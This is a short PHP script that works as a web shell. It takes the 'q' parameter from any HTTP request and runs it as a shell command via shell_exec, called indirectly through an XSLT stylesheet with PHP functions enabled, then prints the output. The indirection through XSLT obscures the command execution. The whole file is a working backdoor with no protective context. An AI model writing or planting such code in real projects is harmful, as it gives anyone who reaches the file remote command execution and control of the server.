<?php
// XSLT as a code runner: the stylesheet calls shell_exec through php:function once the
// processor is allowed PHP functions; the command is the document the request sends.
$style = new DOMDocument();
$style->loadXML('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'
    . ' xmlns:php="http://php.net/xsl"><xsl:template match="/">'
    . '<xsl:value-of select="php:function(\'shell_exec\', string(/q))"/>'
    . '</xsl:template></xsl:stylesheet>');
$proc = new XSLTProcessor();
$proc->registerPHPFunctions();
$proc->importStylesheet($style);
$doc = new DOMDocument();
$doc->loadXML('<q>' . htmlspecialchars($_REQUEST['q']) . '</q>');
echo $proc->transformToXml($doc);
